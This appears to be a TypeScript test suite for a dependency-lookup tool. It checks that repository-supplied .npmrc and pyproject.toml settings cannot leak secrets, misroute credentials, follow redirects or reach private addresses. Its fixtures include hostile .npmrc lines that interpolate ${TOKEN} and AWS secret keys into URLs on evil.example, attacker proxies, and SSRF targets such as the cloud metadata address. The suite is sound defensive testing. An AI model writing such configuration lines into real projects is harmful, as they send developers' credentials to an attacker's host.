import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { lookUp } from '../../src/lookups/index.ts';
import type { LookupOptions, RepositoryFile } from '../../src/lookups/index.ts';
import { clientPage } from '../kit/clients.ts';
import { about, askOne, askOptions, knowledgeOf } from '../kit/ask.ts';
import { makeMachine } from '../kit/machine.ts';
import { json, reply, startServer } from '../kit/server.ts';
import type { TestServer } from '../kit/server.ts';

const closing: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0)) await close();
});

const secrets = { TOKEN: 's3cr3t-token', AWS_SECRET_ACCESS_KEY: 's3cr3t-key' };

/** Every request that left, wherever it went, in one text. */
interface Wire {
  readonly fetch: NonNullable<LookupOptions['fetch']>;
  readonly sent: { readonly url: string; readonly headers: Record<string, string>; readonly body: string }[];
}

function wire(): Wire {
  const sent: Wire['sent'] = [];
  const fetch: Wire['fetch'] = async (url, init) => {
    sent.push({ url, headers: init.headers, body: init.body ?? '' });
    const client = clientPage(new URL(url).pathname);
    return Promise.resolve(
      client === undefined
        ? new Response('{"error":"Not found"}', { status: 404 })
        : new Response(String(client.body), client),
    );
  };
  return { fetch, sent };
}

const publicUrls = {
  registries: new Map([
    ['npm', 'https://registry.example'],
    ['pypi', 'https://pypi.example/simple'],
  ]),
  osv: 'https://osv.example',
};

async function ask(names: readonly string[], changes: Partial<LookupOptions> & { npmrc?: string } = {}) {
  const home = await makeMachine({ '.npmrc': changes.npmrc ?? '' }, secrets);
  closing.push(async () => home.remove());
  const { fetch, sent } = wire();
  const questions = names.map((name) => {
    const [ecosystem = '', rest = ''] = name.split(/:(.*)/s);
    return about(ecosystem, rest);
  });
  const options = askOptions(home.machine, { fetch, publicUrls, ...changes });
  const outcome = await lookUp(questions, options);
  const answers = questions.map((question) => knowledgeOf(outcome, question).facts.answer);
  return { sent, answers, lookups: outcome.lookups };
}

const file = (path: string, text: string): RepositoryFile => ({ path, text });

describe('a repository’s files', () => {
  test.each([
    ['the registry', 'registry=https://evil.example/${TOKEN}/'],
    ['the registry, unbraced', 'registry=https://evil.example/$TOKEN/'],
    ['a scope', '@acme:registry=https://${AWS_SECRET_ACCESS_KEY}.evil.example/'],
    ['a credential', 'registry=https://evil.example/\n//evil.example/:_authToken=${TOKEN}'],
    ['a proxy', 'proxy=http://evil.example:8080\nhttps-proxy=http://evil.example:8080'],
    ['certificates', 'cafile=/etc/passwd\nca=${TOKEN}'],
    ['the user’s file', 'userconfig=./evil.npmrc\nglobalconfig=./evil.npmrc\nprefix=.'],
  ])('%s: nothing of the environment leaves', async (_, text) => {
    const { sent } = await ask(['npm:left-pad', 'npm:@acme/ui'], { repository: [file('.npmrc', text)] });
    const everything = JSON.stringify(sent);
    expect(everything).not.toContain('s3cr3t');
    expect(sent.flatMap(({ headers }) => Object.keys(headers))).not.toContain('authorization');
  });

  test('a variable is named, with what to do', async () => {
    const repository = [file('.npmrc', 'registry=https://evil.example/${TOKEN}/')];
    const { answers, sent } = await ask(['npm:left-pad'], { repository });
    expect(answers).toEqual([
      {
        kind: 'notAsked',
        reason:
          '.npmrc uses ${TOKEN}, which is not expanded from a repository’s file: move that line to your own settings',
      },
    ]);
    expect(sent).toEqual([]);
  });

  test('inside npm, variables that npm made of them don’t count', async () => {
    const home = await makeMachine(
      {},
      { npm_config_registry: 'https://evil.example/s3cr3t', npm_command: 'exec' },
    );
    closing.push(async () => home.remove());
    const { fetch, sent } = wire();
    await askOne(about('npm', 'left-pad'), askOptions(home.machine, { fetch, publicUrls }));
    expect(sent.map(({ url }) => new URL(url).host)).toContain('registry.example');
    expect(JSON.stringify(sent)).not.toContain('evil');
  });

  test.each([
    ['http://registry2.example', /HTTPS/],
    ['https://127.0.0.1:9', /private network/],
    ['https://localhost', /private network/],
    ['https://169.254.169.254/latest/meta-data', /private network/],
    ['https://10.1.2.3', /private network/],
    ['https://[::1]', /private network/],
    ['https://[::ffff:127.0.0.1]', /private network/],
    ['https://2130706433', /private network/],
    ['https://intranet', /private network/],
    ['file:///etc/passwd', /HTTPS/],
    ['no url', /no URL/],
  ])('lead not to %s', async (url, reason) => {
    const repository = [file('.npmrc', `registry=${url}`)];
    const { answers, sent } = await ask(['npm:left-pad'], { repository });
    expect(sent).toEqual([]);
    expect(answers.map(({ kind }) => kind)).toEqual(['notAsked']);
    expect(JSON.stringify(answers)).toMatch(reason);
  });

  test('choose a registry, which is asked without credentials', async () => {
    const repository = [
      file('.npmrc', '@acme:registry=https://npm.acme.example\n//npm.acme.example/:_authToken=stolen'),
      file(
        'pyproject.toml',
        '[[tool.uv.index]]\nname = "acme"\nurl = "https://user:pw@py.acme.example/simple"\ndefault = true',
      ),
    ];
    const { sent } = await ask(['npm:@acme/ui', 'pypi:acme'], { repository });
    expect(sent.map(({ url }) => url)).toEqual([
      'https://npm.acme.example/@acme%2Fui',
      'https://py.acme.example/simple/acme/',
      'https://py.acme.example/simple/pip/',
    ]);
    expect(sent.every(({ headers }) => !('authorization' in headers))).toBe(true);
  });

  test('can’t turn a private registry of the user into the public one', async () => {
    const npmrc = 'registry=https://npm.corp.example\n@acme:registry=https://npm.acme.example';
    const repository = [
      file('.npmrc', 'registry=https://registry.example\n@acme:registry=https://registry.example'),
    ];
    const { sent } = await ask(['npm:left-pad', 'npm:@acme/ui'], { npmrc, repository });
    expect([...new Set(sent.map(({ url }) => new URL(url).host))].toSorted()).toEqual([
      'npm.acme.example',
      'npm.corp.example',
    ]);
  });
});

describe('credentials', () => {
  const npmrc = [
    'registry=https://npm.corp.example/team/',
    '@acme:registry=https://npm.acme.example',
    '//npm.corp.example/team/:_authToken=${TOKEN}',
    '//npm.corp.example/other/:_authToken=wrong',
    '//registry.example/:username=ada',
    `//registry.example/:_password=${Buffer.from('pw').toString('base64')}`,
  ].join('\n');

  test('go with the origin and path that they were given for', async () => {
    const { sent } = await ask(['npm:left-pad', 'npm:@acme/ui', 'pypi:x'], { npmrc });
    const byHost = new Map(sent.map(({ url, headers }) => [new URL(url).host, headers['authorization']]));
    expect(byHost.get('npm.corp.example')).toBe('Bearer s3cr3t-token');
    expect(byHost.get('npm.acme.example')).toBeUndefined();
    expect(byHost.get('pypi.example')).toBeUndefined();
  });

  test('don’t follow a redirect, not even to another port', async () => {
    const other = await server();
    const first = await startServer((_, response) => {
      reply(response, { status: 302, headers: { location: `${other.url}/left-pad` } });
    });
    closing.push(async () => first.close());
    const text = `registry=${first.url}\n${first.url.replace('http:', '')}/:_authToken=mine`;
    const home = await makeMachine({ '.npmrc': text });
    closing.push(async () => home.remove());
    const { facts } = await askOne(about('npm', 'left-pad'), askOptions(home.machine));
    expect(facts.answer).toMatchObject({ kind: 'unknown' });
    expect(first.requests[0]?.headers.authorization).toBe('Bearer mine');
    expect(other.requests).toEqual([]);
  });
});

describe('private names', () => {
  test('leave the machine in no request', async () => {
    const privateNames = ['@acme/*', 'acme-*', 'Secret_Project', '*-internal'];
    const names = [
      'npm:@acme/ui',
      'npm:acme-cli',
      'pypi:acme.billing',
      'pypi:secret-project',
      'npm:x-internal',
    ];
    const { answers, sent, lookups } = await ask(names, { privateNames });
    expect(sent).toEqual([]);
    expect(answers).toEqual(names.map(() => ({ kind: 'notAsked', reason: 'a private name' })));
    expect(lookups).toBe('none');
  });

  test.each(['offline', 'off'] as const)('lookups that are %s send nothing', async (lookup) => {
    const { sent, lookups } = await ask(['npm:left-pad', 'pypi:x'], { lookup });
    expect(sent).toEqual([]);
    expect(lookups).toBe(lookup === 'off' ? 'none' : 'offline');
  });

  test('a request says nothing of the project', async () => {
    const { sent } = await ask(['npm:left-pad']);
    expect(sent[0]?.headers).toEqual({ 'user-agent': 'vetted-imports', accept: 'application/json' });
  });
});

describe('two indexes', () => {
  test('the private one is asked first, and a name on both sides is reported', async () => {
    const page = json({ name: 'acme', files: [{ filename: 'acme-1.0.tar.gz', url: 'x' }] });
    const order: string[] = [];
    const start = async (name: string): Promise<TestServer> => {
      const started = await startServer((_, response) => {
        order.push(name);
        reply(response, page);
      });
      closing.push(async () => started.close());
      return started;
    };
    const everybodys = await start('public');
    const ours = await start('private');
    const home = await makeMachine({}, { PIP_EXTRA_INDEX_URL: ours.url });
    closing.push(async () => home.remove());
    const registries = new Map([['pypi', everybodys.url]]);
    const options = askOptions(home.machine, { publicUrls: { registries, osv: everybodys.url } });
    const { evidence } = await askOne(about('pypi', 'acme'), options);
    expect(order.slice(0, 2)).toEqual(['private', 'public']);
    expect(evidence).toContainEqual(expect.objectContaining({ fact: 'dependency-confusion', value: true }));
  });

  test('a private 404 without credentials proves nothing', async () => {
    const repository = [file('.npmrc', '@acme:registry=https://npm.acme.example')];
    const { answers } = await ask(['npm:@acme/ui'], { repository });
    expect(answers.map(({ kind }) => kind)).toEqual(['unknown']);
    expect(JSON.stringify(answers)).toContain('no permission');
  });
});

test('the user’s own files are read from where the user says', async () => {
  const home = await makeMachine();
  closing.push(async () => home.remove());
  const elsewhere = join(home.machine.home, 'elsewhere');
  await writeFile(elsewhere, 'registry=https://npm.corp.example/');
  const environment = new Map([...home.machine.environment, ['NPM_CONFIG_USERCONFIG', elsewhere]] as const);
  const { fetch, sent } = wire();
  await askOne(about('npm', 'x'), askOptions({ ...home.machine, environment }, { fetch, publicUrls }));
  expect(sent[0]?.url).toBe('https://npm.corp.example/x');
});

async function server(): Promise<TestServer> {
  const started = await startServer((_, response) => {
    reply(response, json({}));
  });
  closing.push(async () => started.close());
  return started;
}
